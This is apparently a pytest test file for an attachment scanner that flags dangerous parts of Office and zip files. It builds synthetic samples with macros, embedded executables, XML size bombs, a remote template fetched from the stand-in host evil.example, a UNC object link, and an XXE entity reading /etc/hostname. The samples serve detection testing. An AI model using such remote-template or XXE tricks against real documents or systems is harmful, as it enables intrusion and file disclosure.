"""Dangerous files are kept and named: macros, programs, packed-in files, remote templates, forged XML."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from service.office.letter import DANGEROUS, Flag, Part
from tests.doors.test_envelope import with_files, zipped
from tests.letter_reading import read_letter

TYPES = ("[Content_Types].xml", b"<Types/>")
BODY = ("word/document.xml", b"<w:document/>")
RELATION = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="{target}" TargetMode="External"/></Relationships>'
)


def docx(*files: tuple[str, bytes]) -> bytes:
    return zipped(TYPES, BODY, *files)


def ole(streams: dict[str, bytes]) -> bytes:
    """A compound file of one sector chain a stream, each filled up to the 4,096 bytes of an ordinary stream."""
    sector, entries, data = 512, [], b""
    first = 2  # sectors 0 and 1 hold the allocation table and the directory
    table = [0xFFFFFFFD, 0xFFFFFFFE]
    names = ["Root Entry", *streams]
    directory_sectors = -(-len(names) // 4)
    table = [0xFFFFFFFD, *range(2, 1 + directory_sectors), 0xFFFFFFFE]
    first = 1 + directory_sectors
    entries.append(("Root Entry", 5, 1 if streams else 0xFFFFFFFF, 0xFFFFFFFE, 0, 0xFFFFFFFF))
    for index, (name, content) in enumerate(streams.items()):
        filled = content.ljust(4096, b"\0")
        filled = filled.ljust(-(-len(filled) // sector) * sector, b"\0")
        count = len(filled) // sector
        table += [*range(first + 1, first + count), 0xFFFFFFFE]
        right = index + 2 if index + 1 < len(streams) else 0xFFFFFFFF
        entries.append((name, 2, 0xFFFFFFFF, first, max(len(content), 4096), right))
        first += count
        data += filled
    directory = b""
    for name, kind, child, start, size, right in entries:
        spelled = name.encode("utf-16-le") + b"\0\0"
        directory += spelled.ljust(64, b"\0") + struct.pack(
            "<HBBIII16sIQQIIHH",
            len(spelled), kind, 1, 0xFFFFFFFF, right, child, b"", 0, 0, 0, start, size & 0xFFFFFFFF, 0, 0,
        )  # fmt: skip
    directory = directory.ljust(directory_sectors * sector, b"\0")
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"", 0x3E, 3, 0xFFFE, 9, 6, b"",
        0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0,
    )  # fmt: skip
    header += struct.pack("<109I", 0, *[0xFFFFFFFF] * 108)
    fat = struct.pack(f"<{len(table)}I", *table).ljust(sector, b"\xff")
    assert len(table) <= 128
    return header + fat + directory + data


def package(name: str) -> bytes:
    spelled = name.encode("gb18030")
    body = b"\x02\0" + spelled + b"\0C:\\x\\" + spelled + b"\0\0\0\3\0" + b"content"
    return struct.pack("<I", len(body)) + body


def read(data: bytes, name: str = "登记表.docx") -> tuple[Part, str]:
    facts = read_letter(with_files((name, data)))
    assert facts.parts[0].size == len(data), "kept as it came"
    return facts.parts[0], " ".join(facts.trouble)


REMOTE_TEMPLATE = RELATION.format(kind="attachedTemplate", target="https://evil.example/t.dotm").encode()


@pytest.mark.parametrize(
    ("files", "flag", "said"),
    [
        ([("word/vbaProject.bin", b"x")], Flag.MACRO, ""),
        ([("word/activeX/activeX1.bin", b"x")], Flag.MACRO, "ActiveX"),
        ([("word/_rels/settings.xml.rels", REMOTE_TEMPLATE)], Flag.EXTERNAL, "外部取模板"),
        (
            [("word/_rels/settings.xml.rels", REMOTE_TEMPLATE.decode().replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16"))],
            Flag.EXTERNAL,
            "evil.example",
        ),
        (
            [("word/_rels/d.xml.rels", RELATION.format(kind="oleObject", target=r"\\10.0.0.1\s\x").encode())],
            Flag.EXTERNAL,
            "外部取内容",
        ),
        ([("word/embeddings/oleObject1.bin", ole({"\x01Ole10Native": package("附件.pdf")}))], Flag.EMBEDDED, "附件.pdf"),
        ([("word/embeddings/oleObject1.bin", ole({"\x01Ole10Native": package("运行.exe")}))], Flag.EXECUTABLE, "运行.exe"),
        ([("word/embeddings/a.xlsx", zipped(("xl/vbaProject.bin", b"x")))], Flag.MACRO, "内嵌"),
        ([("word/embeddings/oleObject1.bin", b"MZ" + b"\0" * 90)], Flag.EXECUTABLE, "内嵌了程序"),
        ([("word/a.xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>')], Flag.BOMB, "实体"),
        ([("word/a.xml", '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a []><a/>'.encode("utf-16"))], Flag.BOMB, "实体"),
        ([("word/media/a.png", b"\0" * (6 << 20))], Flag.BOMB, "庞大"),
        ([("word/a.xml", b"<a/>" + b" " * (33 << 20))], Flag.BOMB, "庞大"),
        ([("WORD/document.xml", b"<other/>")], Flag.UNREADABLE, "两次"),
    ],
    ids=["vba", "activex", "template", "template-utf16", "unc", "package", "package-exe", "inner-macro", "inner-exe", "entity", "entity-utf16", "media-bomb", "xml-bomb", "twice"],
)  # fmt: skip
def test_a_danger_in_a_word_file_is_named_and_the_file_kept(
    files: list[tuple[str, bytes]], flag: Flag, said: str
) -> None:
    part, trouble = read(docx(*files))
    assert flag in part.flags
    assert said in trouble
    assert flag in DANGEROUS or flag is Flag.UNREADABLE


@pytest.mark.parametrize(
    "files",
    [
        [],
        [("word/_rels/s.xml.rels", RELATION.format(kind="attachedTemplate", target="file:///C:\\U\\Normal.dotm").encode())],
        [("word/_rels/s.xml.rels", RELATION.format(kind="attachedTemplate", target="Normal.dotm").encode())],
        [("word/_rels/d.xml.rels", RELATION.format(kind="hyperlink", target="https://www.unit.example/").encode())],
        [("word/_rels/d.xml.rels", RELATION.format(kind="image", target="https://www.unit.example/a.png").encode())],
        [("word/embeddings/Microsoft_Excel_Sheet1.xlsx", zipped(("xl/workbook.xml", b"<w/>")))],
        [("word/embeddings/oleObject1.bin", ole({"Equation Native": b"x"}))],
    ],
    ids=["plain", "local-template", "bare-template", "hyperlink", "web-picture", "chart", "equation"],
)  # fmt: skip
def test_what_every_office_file_may_hold_is_no_danger(files: list[tuple[str, bytes]]) -> None:
    part, trouble = read(docx(*files))
    assert (part.flags, trouble) == ((), "")


def test_a_package_in_an_old_word_file_is_named() -> None:
    part, trouble = read(ole({"WordDocument": b"x", "\x01Ole10Native": package("a.vbs")}), "总结.docx")
    assert part.type == "application/msword"
    assert set(part.flags) == {Flag.EMBEDDED, Flag.EXECUTABLE}
    assert "a.vbs" in trouble


def test_a_program_inside_archives_is_named_by_content_and_by_name() -> None:
    inner = zipped(("说明.docx", b"MZ" + b"\0" * 80), ("b.bat", b"echo"))
    facts = read_letter(with_files(("a.zip", zipped(("b.zip", inner)))))
    assert {part.name for part in facts.parts if Flag.EXECUTABLE in part.flags} == {"说明.docx", "b.bat"}


def test_an_encrypted_archive_tells_the_names_it_holds() -> None:
    data = bytearray(zipped(("工作总结.docx", b"text"), ("setup.exe", b"text")))
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(sign)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(sign, at + 4)
    part, trouble = read(bytes(data), "a.zip")
    assert set(part.flags) == {Flag.ENCRYPTED, Flag.EXECUTABLE}
    assert "有密码" in trouble and "工作总结.docx" in trouble


def test_zip_helper_makes_real_archives() -> None:
    assert zipfile.ZipFile(io.BytesIO(docx())).namelist() == [TYPES[0], BODY[0]]
